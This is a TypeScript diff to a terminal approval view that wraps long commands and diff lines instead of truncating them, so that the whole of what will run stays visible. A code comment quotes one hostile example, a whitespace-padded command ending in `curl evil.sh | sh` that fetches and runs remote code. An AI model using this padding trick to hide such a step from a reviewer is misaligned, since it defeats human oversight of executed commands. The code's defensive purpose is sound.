@@ -95,26 +95,25 @@ type BodyRow = BodyLine & { readonly continued: boolean };
 /** Each view's body rows for the last width drawn: a keypress does not cut the body again. */
 const rowsOfViews = new WeakMap<ApprovalView, { width: number; rows: readonly BodyRow[] }>();
 
+/** Whether a body line starts with a diff mark (`+`, `-`, a space), kept in its first column. */
+function marked(line: BodyLine): boolean {
+  return line.kind === 'added' || line.kind === 'removed' || line.kind === 'context';
+}
+
 /**
- * The body in rows of `width` columns. A command or a diff line is cut into as many rows as it
- * needs, never shortened: what runs or is written must reach the screen whole, where a line cut
+ * The body in rows of `width` columns. Each line is cut into as many rows as it needs, never
+ * shortened: what runs or is written, and where, must reach the screen whole, where a line cut
  * with `…` hid the end of `npm test<200 spaces>; curl evil.sh | sh`. A command's rows start
- * after its `$ `, a diff line's after its mark.
+ * after its `$ `, a diff line's after its mark, the others' after one space.
  */
 function bodyRows(view: ApprovalView, width: number): readonly BodyRow[] {
   const cached = rowsOfViews.get(view);
   if (cached !== undefined && cached.width === width) return cached.rows;
   const rows: BodyRow[] = [];
   for (const line of view.body) {
-    if (line.kind === 'note' || line.kind === 'hunk') {
-      rows.push({ ...line, continued: false });
-      continue;
-    }
-    // `$ ` before a command; a diff line keeps its mark in its first column.
-    const lead = line.kind === 'command' ? 2 : 1;
-    const text = line.kind === 'command' ? line.text : line.text.slice(1);
-    const mark = line.kind === 'command' ? '' : line.text.slice(0, 1);
-    const pieces = cutIntoRows(text, width - lead);
+    const mark = marked(line) ? line.text.slice(0, 1) : '';
+    const text = line.text.slice(mark.length);
+    const pieces = cutIntoRows(text, width - (line.kind === 'command' ? 2 : 1));
     pieces.forEach((piece, index) => {
       rows.push({
         kind: line.kind,
@@ -128,18 +127,11 @@ function bodyRows(view: ApprovalView, width: number): readonly BodyRow[] {
 }
 
 /** A body row, styled; a continued row is indented under the text of its line. */
-function styledBodyRow(row: BodyRow, width: number, style: TerminalStyle): string {
-  if (!row.continued) return styledBodyLine({ ...row, text: truncateText(row.text, width) }, style);
-  switch (row.kind) {
-    case 'command':
-      return `  ${style.bold(row.text)}`;
-    case 'added':
-      return ` ${style.success(row.text)}`;
-    case 'removed':
-      return ` ${style.danger(row.text)}`;
-    default:
-      return ` ${row.text}`;
-  }
+function styledBodyRow(row: BodyRow, style: TerminalStyle): string {
+  if (!row.continued) return styledBodyLine(row, style);
+  if (row.kind === 'command') return `  ${style.bold(row.text)}`;
+  // Styled as its line, without the `$ ` a command's first row has.
+  return ` ${styledBodyLine(row, style)}`;
 }
 
 /**
@@ -183,9 +175,7 @@ export function renderApproval(
     page = scrolls ? Math.max(1, room - 1) : room;
     bottom = Math.max(0, body.length - page);
     scroll = Math.min(state.scroll, bottom);
-    lines = body
-      .slice(scroll, scroll + page)
-      .map((row) => `  ${styledBodyRow(row, width - 2, style)}`);
+    lines = body.slice(scroll, scroll + page).map((row) => `  ${styledBodyRow(row, style)}`);
     if (scrolls) {
       const end = Math.min(body.length, scroll + page);
       lines.push(
